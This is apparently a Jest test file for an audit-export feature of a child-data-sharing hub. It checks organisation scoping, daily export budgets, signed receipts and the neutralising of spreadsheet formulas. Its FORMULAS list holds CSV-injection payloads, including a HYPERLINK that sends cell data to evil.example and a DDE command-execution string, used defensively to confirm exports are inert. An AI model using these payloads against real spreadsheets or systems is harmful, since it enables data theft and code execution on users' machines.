import { createHash } from 'node:crypto';
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { parse } from 'csv-parse/sync';
import { decodeRecord, type NoticeEvent } from '#contracts';
import { CORE, type Core } from '#nest-platform';
import type { HubClient } from '#nest-platform/client';
import { parseReceipt, parseVkey, verifyReceipt } from '#transparency';
import { fromCell } from '../../../sharing-protocol/src/audit/csv.ts';
import { program } from '../../../cli/src/program.ts';
import { asked, audit, results } from '../audit/asking.ts';
import { agree, caughtUp, mustBe, runningHub, timeline, type RunningHub } from '../running-hub.ts';
import { tellWorld, type World } from '../trust/world.ts';

/** Texts that reach a file as they were typed: Hub-Purpose-Detail, which the look keeps. */
const FORMULAS = [
  '=HYPERLINK("https://evil.example/?x="&A1,"look")',
  "=cmd|' /C calc'!A0",
  '+1+cmd',
  '-2+3',
  '@SUM(1+1)',
];

async function opened(env: Readonly<Record<string, string>> = {}) {
  const hub = await runningHub({ env });
  const world = await tellWorld(hub);
  await agree(hub, {
    id: 'enrolment',
    source: world.school.id,
    recipient: world.trust.id,
    categories: ['education.enrolment'],
    purposes: ['direct-care'],
    roles: ['health-visitor'],
  });
  await caughtUp(hub);
  for (let n = 0; n < 3; n++) mustBe(200, await timeline(hub.person('senco'), world.child, 'sen-support'));
  mustBe(200, await timeline(hub.person('health-visitor'), world.child, 'direct-care'));
  return { hub, world };
}

const TIMELINE = 'GET /v1/children/:childId/timeline';
const csvOf = (text: string) =>
  (parse(text, { columns: true, record_delimiter: '\r\n' }) as readonly Readonly<Record<string, string>>[]).map((row) =>
    Object.fromEntries(Object.entries(row).map(([name, cell]) => [name, fromCell(cell)])),
  );
const linesOf = (text: string) =>
  text
    .trimEnd()
    .split('\n')
    .map((line) => JSON.parse(line) as Readonly<Record<string, unknown>>);
const exported = async (client: HubClient, id: string, format: string) =>
  mustBe(200, await audit(client, `/${id}/export?format=${format}`));

describe('check 18: bulk export respects per-slice decisions, budgets and watermark, and its cells are inert', () => {
  let hub: RunningHub;
  let world: World;
  let dpo: HubClient;
  let oakfield: HubClient;
  beforeAll(async () => {
    ({ hub, world } = await opened());
    [dpo, oakfield] = [hub.person('dpo'), hub.person('dpo-oakfield')];
  });
  afterAll(() => hub.remove());

  it.each(['csv', 'jsonl', 'fhir'])(
    '%s has every decision that the pages have, each with the event that proves it',
    async (format) => {
      const { id } = await asked(hub, dpo, { child: world.child });
      const rows = await results(dpo, id);
      const { text } = await exported(dpo, id, format);
      if (format === 'csv') expect(csvOf(text).slice(0, -1)).toHaveLength(rows.length);
      else expect(linesOf(text)).toHaveLength(rows.length + (format === 'jsonl' ? 2 : 1));
      for (const { decision, event } of rows) {
        expect(text).toContain(decision);
        expect(text).toContain(event);
        const core = hub.composed.app.get<Core>(CORE);
        const [look] = await core.log.readStream(`look-${decision}`, { limit: 1 });
        expect(look?.id).toBe(event);
      }
    },
  );

  it.each(['csv', 'jsonl', 'fhir'])(
    '%s gives an organisation’s officer no other source’s slice and nobody else’s name',
    async (format) => {
      const { id } = await asked(hub, oakfield, { organisation: world.trust.id });
      const { text } = await exported(oakfield, id, format);
      expect(text).toContain(world.school.id);
      expect(text).toContain('education.enrolment');
      // The same look read the trust's own screening; who it was is the trust's to know.
      expect(text).not.toMatch(/health\.screening|person-52be/);
      const whole = await exported(dpo, (await asked(hub, dpo, { organisation: world.trust.id })).id, format);
      expect(whole.text).toMatch(/health\.screening/);
      expect(whole.text).toMatch(/person-52be/);
    },
  );

  it('bears in every record who was handed it, when, and in answer to what', async () => {
    const { id } = await asked(hub, dpo, { child: world.child });
    const csv = csvOf((await exported(dpo, id, 'csv')).text);
    for (const row of csv)
      expect(row).toMatchObject({
        exportedTo: 'person-d0d0',
        exportedToOrganisation: 'hub',
        query: id,
        exportedAt: expect.stringMatching(/^\d{4}-/),
      });
    expect(csv.at(-1)).toMatchObject({ record: 'end', ended: 'complete', rows: String(csv.length - 1) });
    const fhir = linesOf((await exported(dpo, id, 'fhir')).text);
    for (const { meta } of fhir)
      expect(meta).toMatchObject({
        tag: expect.arrayContaining([{ system: 'urn:tellonce:exported-to', code: 'person-d0d0' }]),
      });
  });

  it('makes formulas inert, and keeps what was said', async () => {
    for (const formula of FORMULAS) {
      const headers = { 'hub-purpose': 'sen-support', 'hub-purpose-detail': formula };
      mustBe(200, await hub.person('senco').ask(`/v1/children/${world.child}/timeline`, { headers }));
    }
    const { id } = await asked(hub, dpo, { child: world.child, user: 'person-7f3a' });
    const { text } = await exported(dpo, id, 'csv');
    expect(csvOf(text).map(({ detail }) => detail)).toEqual(expect.arrayContaining(FORMULAS));
    for (const row of parse(text, { record_delimiter: '\r\n' }) as readonly (readonly string[])[])
      for (const cell of row) expect(cell).not.toMatch(/^[\s\0]*[=+\-@\t\r\0＝＋－＠]/u);
    for (const line of linesOf((await exported(dpo, id, 'jsonl')).text).slice(1, -1))
      expect([null, ...FORMULAS]).toContain(line['detail']);
  });

  it('is proven by its receipt, offline; one changed byte is not', async () => {
    const { id } = await asked(hub, dpo, { child: world.child });
    const { text, headers } = await exported(dpo, id, 'jsonl');
    const decision = headers.get('hub-decision-id') ?? '';
    const manifest = mustBe(200, await audit(dpo, `/${id}/export/manifest?format=jsonl&decision=${decision}`));
    const { vkey } = hub.composed.app.get<Core>(CORE).proof;
    const bytes = parseReceipt(manifest.text)?.extra ?? new Uint8Array();
    expect(verifyReceipt(manifest.text, bytes, [parseVkey(vkey)])).toMatchObject({ ok: true });
    expect(decodeRecord(bytes)).toMatchObject({
      type: 'audit-query.exported.v1',
      data: { query: id, format: 'jsonl', ended: 'complete', sha256: createHash('sha256').update(text).digest('hex') },
    });
    const file = join(hub.folder, 'decisions.jsonl');
    writeFileSync(file, text);
    writeFileSync(`${file}.tlog-proof`, manifest.text);
    const verify = async () => {
      const lines: string[] = [];
      await program({ TELLONCE_VAR: hub.varDir }, (line) => lines.push(line)).parseAsync([
        ...['node', 'tellonce', 'audit', 'verify', `${file}.tlog-proof`, '--export', file, '--vkey', vkey],
      ]);
      return lines;
    };
    expect(await verify()).toEqual([
      expect.stringMatching(/^proven: event \d+ of \d+ is in the log/),
      expect.stringMatching(/^proven: the file is as exported .* to person-d0d0: \d+ decisions, complete/),
    ]);
    writeFileSync(file, text.replace('"permit"', '"deny"  '));
    await expect(verify()).rejects.toThrow('NOT PROVEN: the file is not the one that was exported');
    writeFileSync(`${file}.tlog-proof`, manifest.text.replace(/^index \d+$/m, 'index 0'));
    await expect(verify()).rejects.toThrow('NOT PROVEN');
    mustBe(404, await audit(dpo, `/${id}/export/manifest?format=csv`));
  });

  it('is asked for on the command line, with progress beside the file', async () => {
    const file = join(hub.folder, 'decisions.csv');
    const env = { TELLONCE_PUBLIC_URL: hub.url, TELLONCE_VAR: hub.varDir };
    const words = [
      'audit',
      'query',
      '--person',
      'dpo',
      '--child',
      world.child,
      '--by',
      world.school.id,
      '--format',
      'csv',
    ];
    await program(env, () => undefined).parseAsync(['node', 'tellonce', ...words, '--output', file]);
    expect(csvOf(readFileSync(file, 'utf8')).map(({ user }) => user)).toEqual([
      ...Array<string>(3 + FORMULAS.length).fill('person-7f3a'),
      '',
    ]);
    expect(readFileSync(`${file}.tlog-proof`, 'utf8')).toMatch(/^c2sp\.org\/tlog-proof@v1\n/);
  });
});

describe('check 18: who was handed as many decisions as may be in a day', () => {
  let hub: RunningHub;
  let world: World;
  beforeAll(async () => {
    ({ hub, world } = await opened({ TELLONCE_AUDIT_ROWS_A_DAY: '5' }));
  });
  afterAll(() => hub.remove());

  it('gets a file that says it was cut, then a refusal; the refusal is recorded and the area’s officer told', async () => {
    const dpo = hub.person('dpo');
    const { id, count } = await asked(hub, dpo, { child: world.child, route: TIMELINE });
    expect(count).toBe(4);
    mustBe(200, await audit(dpo, `/${id}/results?limit=2`));
    const rows = csvOf((await exported(dpo, id, 'csv')).text);
    expect(rows.map(({ record }) => record)).toEqual(['decision', 'decision', 'decision', 'end']);
    expect(rows.at(-1)).toMatchObject({ ended: 'budget-reached', rows: '3' });
    for (const path of ['results', 'export?format=fhir']) {
      const refused = mustBe(429, await audit(dpo, `/${id}/${path}`));
      expect(refused.json).toMatchObject({ code: 'CALLER_EXPORT_BUDGET_REACHED' });
      expect(Number(refused.headers.get('retry-after'))).toBeGreaterThan(0);
      expect(refused.text).not.toContain(world.child);
    }
    const notices: NoticeEvent[] = [];
    const core = hub.composed.app.get<Core>(CORE);
    for await (const batch of core.log.readAll({ families: ['notice'] }))
      for (const { data } of batch) notices.push(decodeRecord(data) as unknown as NoticeEvent);
    const ofBudgets = notices.filter(({ data: { kind } }) => kind !== 'organisation-keys-changed');
    expect(ofBudgets.map(({ data }) => [data.kind, data.to, data.reference])).toEqual([
      ['export-budget-reached', 'area-dpo', id],
    ]);
    // Another person has a budget of their own, and finds the refusals.
    const oakfield = hub.person('dpo-oakfield');
    expect(
      (await results(oakfield, (await asked(hub, oakfield, { child: world.child, route: TIMELINE })).id)).length,
    ).toBe(4);
  });

  it('is held after a restart too', async () => {
    const dpo = hub.person('dpo');
    const port = Number(new URL(hub.url).port);
    const { id } = await asked(hub, dpo, { child: world.child, route: TIMELINE });
    await hub.stop();
    hub = await runningHub({ folder: hub.folder, port, env: { TELLONCE_AUDIT_ROWS_A_DAY: '5' } });
    mustBe(429, await audit(hub.person('dpo'), `/${id}/results`));
  });
});
